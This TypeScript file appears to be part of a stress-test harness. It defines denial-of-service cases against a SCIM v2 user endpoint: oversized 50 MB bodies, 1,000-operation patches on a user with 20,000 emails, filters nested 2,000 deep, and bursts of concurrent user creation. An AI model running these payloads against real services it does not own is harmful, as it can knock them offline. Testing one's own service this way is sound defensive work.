import { count, megabyte, post, repeat } from './send.ts';
import type { Attack, Tally, Target } from './target.ts';

export const byScim: Attack[] = [
  {
    what: 'bodies of 50 MB to /scim/v2',
    who: 'stranger',
    run: (target) => {
      const body = JSON.stringify({ userName: 'x'.repeat(50 * megabyte) });
      return repeat(target, 2, () => post(target, '/scim/v2/Users', body, { type: 'application/scim+json' }));
    },
  },
  {
    what: '1,000 SCIM operations on 20,000 values',
    who: 'SCIM client',
    run: patchManyValues,
  },
  {
    what: 'SCIM filters nested 5,000 deep',
    who: 'SCIM client',
    run: (target) => {
      const filter = encodeURIComponent(
        `${'('.repeat(2_000)}userName eq "x"${')'.repeat(2_000)} or ${'userName eq "y" or '.repeat(200)}userName eq "z"`,
      );
      return repeat(target, 4, async () => {
        const response = await fetch(`${target.url}/scim/v2/Users?filter=${filter}`, {
          headers: { authorization: `Bearer ${target.scimToken}` },
        });
        await response.arrayBuffer();
        return String(response.status);
      });
    },
  },
  {
    what: 'people pushed by SCIM, 64 at a time',
    who: 'SCIM client',
    run: (target) =>
      repeat(target, 64, (run) =>
        post(
          target,
          '/scim/v2/Users',
          JSON.stringify({
            schemas: ['urn:ietf:params:scim:schemas:core:2.0:User'],
            userName: `pushed${run}`,
            active: true,
          }),
          { token: target.scimToken, type: 'application/scim+json' },
        ),
      ),
  },
];

/** Changes 1,000 of the 20,000 addresses of one person, one by one. */
async function patchManyValues(target: Target): Promise<Tally> {
  const ask = (method: string, path: string, body: object) =>
    post(target, `/scim/v2${path}`, JSON.stringify(body), {
      method,
      token: target.scimToken,
      type: 'application/scim+json',
    });
  const tally: Tally = {};
  const schemas = ['urn:ietf:params:scim:schemas:core:2.0:User'];
  const emails = Array.from({ length: 20_000 }, (_, index) => ({ value: `a${index}@example.test` }));
  const made = await ask('POST', '/Users', { schemas, userName: 'many', active: true, emails });
  count(tally, `made: ${made}`);
  const id = made.startsWith('201') ? await idOf(target, 'many') : target.scimUser;
  const Operations = Array.from({ length: 1_000 }, (_, index) => ({
    op: 'replace',
    path: `emails[value eq "a${index}@example.test"].type`,
    value: 'work',
  }));
  const patch = { schemas: ['urn:ietf:params:scim:api:messages:2.0:PatchOp'], Operations };
  count(tally, `patched: ${await ask('PATCH', `/Users/${id}`, patch)}`);
  return tally;
}

async function idOf({ url, scimToken }: Target, userName: string): Promise<string> {
  const filter = encodeURIComponent(`userName eq "${userName}"`);
  const response = await fetch(`${url}/scim/v2/Users?filter=${filter}`, {
    headers: { authorization: `Bearer ${scimToken}` },
  });
  const { Resources } = (await response.json()) as { Resources: { id: string }[] };
  return Resources[0]?.id ?? '';
}
